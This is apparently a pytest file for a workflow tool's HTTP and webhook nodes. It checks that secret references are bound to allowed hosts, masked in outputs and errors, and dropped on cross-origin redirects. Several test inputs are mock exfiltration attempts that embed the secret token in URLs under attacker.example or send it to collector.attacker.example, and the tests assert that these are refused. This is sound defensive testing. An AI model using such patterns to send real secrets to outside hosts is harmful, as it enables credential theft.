"""Secrets in `http.request` and `webhook.post`: where `${NODELOOM_SECRET_*}` may be expanded,
the `NODELOOM_SECRET_<NAME>_HOSTS` binding, and masking in errors and outputs.

Requests go to real HTTP servers on 127.0.0.1 started by the tests. Hosts the tests must
never reach are under `attacker.example` or `.invalid`: a refusal there is asserted to be
the binding refusal (code `secret_refused`), not a resolution error, so no DNS query was made.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import parse_qs, quote, urlsplit

import pytest
from netutil import RecordingHandler, ServerLog, recording_server

from nodeloom.core import Graph, NodeState, RunConfig, RunResult
from nodeloom.executors import LocalExecutor
from nodeloom.node_registry.http.addresses import host_matches

HTTP_OUTPUTS = ("status", "headers", "text", "json")
LOCAL = RunConfig(allow_private_network=True)
ONCE = {"max_attempts": 1}
TOKEN = "Sk-MixedCase/Secret+42="
REFERENCE = "${NODELOOM_SECRET_TOKEN}"

#: how a server may give a received secret back
ECHOES: dict[str, Callable[[str], str]] = {
    "exact": lambda value: value,
    "lower": str.lower,
    "upper": str.upper,
    "url-encoded": lambda value: quote(value, safe=""),
    "base64": lambda value: base64.b64encode(value.encode()).decode(),
    "basic-auth": lambda value: "Basic " + base64.b64encode(f"user:{value}".encode()).decode(),
}


def _route(handler: RecordingHandler, body: bytes, seen: int) -> None:
    split = urlsplit(handler.path)
    query = {name: values[0] for name, values in parse_qs(split.query).items()}
    if split.path.startswith("/echo"):  # everything received, as JSON
        echoed = {"target": handler.path, "headers": dict(handler.headers.items()), "body": body.decode()}
        handler.reply_json(200, echoed)
    elif split.path == "/reflect":  # the X-Echo header given back in one spelling
        given = ECHOES[query["spelling"]](handler.headers.get("X-Echo", ""))
        handler.reply_json(int(query.get("status", "200")), {"said": given}, {"X-Said": given})
    elif split.path == "/redirect":
        handler.reply(int(query.get("code", "307")), b"", extra={"Location": query["to"]})
    else:
        handler.reply(404, b"{}")


@pytest.fixture
def server() -> Iterator[ServerLog]:
    with recording_server(_route) as state:
        yield state


@pytest.fixture
def other_server() -> Iterator[ServerLog]:
    """A second origin (another port on 127.0.0.1)."""
    with recording_server(_route) as state:
        yield state


@pytest.fixture(autouse=True)
def token(monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.setenv("NODELOOM_SECRET_TOKEN", TOKEN)
    return TOKEN


def run_node(executor: LocalExecutor, type_name: str, outputs: tuple[str, ...], **inputs: Any) -> RunResult:
    g = Graph()
    handle = g.add(type_name, "n", **inputs)
    g.configure("n", retry=ONCE)
    for name in outputs:
        g.output(name, handle[name])
    return executor.run(g, config=LOCAL)


def error_of(result: RunResult) -> dict[str, Any]:
    record = result.nodes["n"]
    assert record.state is NodeState.FAILED and record.error is not None
    return dict(record.error)


def leaked(result: RunResult, secret: str = TOKEN) -> list[str]:
    """The spellings of `secret` that the run's record holds (none, for a masked run)."""
    record = json.dumps([result.to_json(), result.errors()], ensure_ascii=False)
    spellings = {echo(secret) for echo in ECHOES.values()} | {json.dumps(secret)[1:-1]}
    spellings |= {spelling.removeprefix("Basic ") for spelling in spellings}
    return sorted(spelling for spelling in spellings if spelling.lower() in record.lower())


# -- never in the URL's host -------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        f"http://{REFERENCE}.attacker.example/x",
        f"http://api.{REFERENCE}.invalid/x",
        f"http://attacker.example:{REFERENCE}/x",
        f"http://user:{REFERENCE}@attacker.example/x",
        f"{REFERENCE}.attacker.example/x",
    ],
)
@pytest.mark.parametrize("binding", [None, "*.attacker.example,attacker.example"])
def test_a_secret_in_the_url_authority_is_refused_before_any_lookup(
    executor: LocalExecutor, monkeypatch: pytest.MonkeyPatch, url: str, binding: str | None
) -> None:
    if binding is not None:  # a binding allows a host, never a secret in the host
        monkeypatch.setenv("NODELOOM_SECRET_TOKEN_HOSTS", binding)
    result = run_node(executor, "http.request", HTTP_OUTPUTS, url=url)
    error = error_of(result)
    assert error["code"] == "secret_refused"
    assert "part of the URL's scheme, host" in error["message"] and "resolve" not in error["message"]
    assert leaked(result) == []


# -- the binding --------------------------------------------------------------------------


@pytest.mark.parametrize("binding", [None, "api.example.com", "*.127.0.0.1"])
@pytest.mark.parametrize("path", [f"/echo?key={REFERENCE}", f"/echo/{REFERENCE}/x"])
def test_a_secret_in_the_path_or_query_needs_a_binding_to_the_host(
    executor: LocalExecutor, server: ServerLog, monkeypatch: pytest.MonkeyPatch, binding: str | None, path: str
) -> None:
    if binding is not None:
        monkeypatch.setenv("NODELOOM_SECRET_TOKEN_HOSTS", binding)
    result = run_node(executor, "http.request", HTTP_OUTPUTS, url=server.url(path))
    error = error_of(result)
    assert error["code"] == "secret_refused" and "NODELOOM_SECRET_TOKEN_HOSTS" in error["message"]
    assert server.requests == [] and leaked(result) == []


@pytest.mark.parametrize("path", [f"/echo?key={REFERENCE}", f"/echo/{REFERENCE}/x"])
def test_a_secret_bound_to_the_host_goes_into_the_path_or_query(
    executor: LocalExecutor, server: ServerLog, monkeypatch: pytest.MonkeyPatch, path: str
) -> None:
    monkeypatch.setenv("NODELOOM_SECRET_TOKEN_HOSTS", "api.example.com, 127.0.0.1")
    result = run_node(executor, "http.request", HTTP_OUTPUTS, url=server.url(path))
    assert result.ok
    (received,) = server.requests
    assert quote(TOKEN, safe="") in received.target or TOKEN in received.target
    assert leaked(result) == [] and REFERENCE in result.outputs["json"]["target"]


@pytest.mark.parametrize(
    "inputs",
    [
        {"headers": {"X-Value": f"v {REFERENCE}"}},
        {"method": "POST", "json": {"token": REFERENCE}},
        {"method": "POST", "body": f"token={REFERENCE}"},
    ],
    ids=["header", "json-body", "text-body"],
)
def test_a_secret_bound_to_other_hosts_is_refused_before_any_lookup(
    executor: LocalExecutor, monkeypatch: pytest.MonkeyPatch, inputs: dict[str, Any]
) -> None:
    monkeypatch.setenv("NODELOOM_SECRET_TOKEN_HOSTS", "api.example.com,*.example.com")
    result = run_node(executor, "http.request", HTTP_OUTPUTS, url="http://collector.attacker.example/x", **inputs)
    error = error_of(result)
    assert error["code"] == "secret_refused" and "'collector.attacker.example'" in error["message"]
    assert "resolve" not in error["message"] and leaked(result) == []


def test_an_unbound_secret_goes_in_headers_and_bodies(executor: LocalExecutor, server: ServerLog) -> None:
    result = run_node(executor, "http.request", HTTP_OUTPUTS, url=server.url("/echo"), method="POST",
                      headers={"X-Value": f"v {REFERENCE}"}, json={"token": REFERENCE, "n": 1})
    assert result.ok
    (received,) = server.requests
    assert received.headers["X-Value"] == f"v {TOKEN}"
    assert json.loads(received.body) == {"token": TOKEN, "n": 1}


def test_a_secret_in_a_json_body_is_json_escaped(
    executor: LocalExecutor, server: ServerLog, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("NODELOOM_SECRET_QUOTED", 'say "hi"\\n')
    result = run_node(executor, "webhook.post", ("status",), url=server.url("/echo"),
                      payload={"token": "${NODELOOM_SECRET_QUOTED}"})
    assert result.ok
    assert json.loads(server.requests[0].body) == {"token": 'say "hi"\\n'}


@pytest.mark.parametrize(
    ("host", "patterns", "matches"),
    [
        ("api.example.com", ["api.example.com"], True),
        ("API.Example.com.", ["api.example.com"], True),
        ("a.b.example.com", ["*.example.com"], True),
        ("example.com", ["*.example.com"], False),
        ("badexample.com", ["*.example.com"], False),
        ("example.com.attacker.example", ["example.com", "*.example.com"], False),
        ("::1", ["[::1]"], True),
    ],
)
def test_binding_patterns_match_exact_names_and_suffixes(host: str, patterns: list[str], matches: bool) -> None:
    assert host_matches(host, patterns) is matches


# -- secret webhook URLs --------------------------------------------------------------------


def test_a_secret_url_bound_to_other_hosts_is_refused(
    executor: LocalExecutor, server: ServerLog, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("NODELOOM_SECRET_HOOK", server.url("/echo/T0K3N-path"))
    monkeypatch.setenv("NODELOOM_SECRET_HOOK_HOSTS", "hooks.example.com")
    result = run_node(executor, "webhook.post", ("status",), url="${NODELOOM_SECRET_HOOK}", payload={})
    assert error_of(result)["code"] == "secret_refused" and server.requests == []
    assert "T0K3N" not in json.dumps(result.to_json())


def test_a_secret_that_is_not_a_url_is_refused_without_showing_it(executor: LocalExecutor) -> None:
    result = run_node(executor, "webhook.post", ("status",), url=REFERENCE, payload={})
    error = error_of(result)
    assert error["code"] == "destination_refused" and REFERENCE in error["message"]
    assert leaked(result) == []


# -- masking ---------------------------------------------------------------------------------


@pytest.mark.parametrize("spelling", sorted(ECHOES))
def test_an_echoed_secret_is_masked_in_the_outputs(executor: LocalExecutor, server: ServerLog, spelling: str) -> None:
    result = run_node(executor, "http.request", HTTP_OUTPUTS, url=server.url(f"/reflect?spelling={spelling}"),
                      headers={"X-Echo": REFERENCE})
    assert result.ok and server.requests[0].headers["X-Echo"] == TOKEN
    assert leaked(result) == []
    assert REFERENCE in result.outputs["json"]["said"] and REFERENCE in result.outputs["headers"]["x-said"]


@pytest.mark.parametrize("spelling", sorted(ECHOES))
def test_an_echoed_secret_is_masked_in_errors(executor: LocalExecutor, server: ServerLog, spelling: str) -> None:
    result = run_node(executor, "http.request", HTTP_OUTPUTS,
                      url=server.url(f"/reflect?spelling={spelling}&status=500"), headers={"X-Echo": REFERENCE})
    error = error_of(result)
    assert error["status"] == 500 and REFERENCE in error["body_excerpt"]
    assert leaked(result) == []


# -- undefined secrets -----------------------------------------------------------------------


def test_an_undefined_secret_names_only_the_reference_it_was_given(
    executor: LocalExecutor, server: ServerLog, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("NODELOOM_SECRET_REAL_ONE", "real-value-1")
    result = run_node(executor, "http.request", HTTP_OUTPUTS, url=server.url("/echo"),
                      headers={"X-Api-Key": "${NODELOOM_SECRET_REAL_0NE}"})
    record = json.dumps([result.to_json(), result.errors()])
    assert "NODELOOM_SECRET_REAL_0NE" in error_of(result)["message"]
    assert "REAL_ONE" not in record and "TOKEN" not in record and server.requests == []


def test_an_undefined_secret_in_a_query_is_refused_like_an_unbound_one(
    executor: LocalExecutor, server: ServerLog
) -> None:
    unset = run_node(executor, "http.request", HTTP_OUTPUTS, url=server.url("/echo?k=${NODELOOM_SECRET_NOPE}"))
    unbound = run_node(executor, "http.request", HTTP_OUTPUTS, url=server.url(f"/echo?k={REFERENCE}"))
    assert error_of(unset)["code"] == error_of(unbound)["code"] == "secret_refused"
    assert error_of(unset)["message"].replace("NOPE", "TOKEN") == error_of(unbound)["message"]


# -- redirects --------------------------------------------------------------------------------


def test_a_header_carrying_a_secret_is_dropped_on_a_redirect_to_another_origin(
    executor: LocalExecutor, server: ServerLog, other_server: ServerLog
) -> None:
    elsewhere = other_server.url("/echo")
    result = run_node(executor, "http.request", HTTP_OUTPUTS, url=server.url(f"/redirect?code=302&to={elsewhere}"),
                      headers={"X-Value": REFERENCE, "X-Plain": "kept"})
    assert result.ok
    (received,) = other_server.requests
    assert "X-Value" not in received.headers and received.headers["X-Plain"] == "kept"


def test_a_body_carrying_a_secret_is_not_resent_to_another_origin(
    executor: LocalExecutor, server: ServerLog, other_server: ServerLog
) -> None:
    elsewhere = other_server.url("/echo")
    result = run_node(executor, "http.request", HTTP_OUTPUTS, method="POST", json={"t": REFERENCE},
                      url=server.url(f"/redirect?code=307&to={elsewhere}"))
    assert error_of(result)["code"] == "secret_refused" and other_server.requests == []
    assert leaked(result) == []
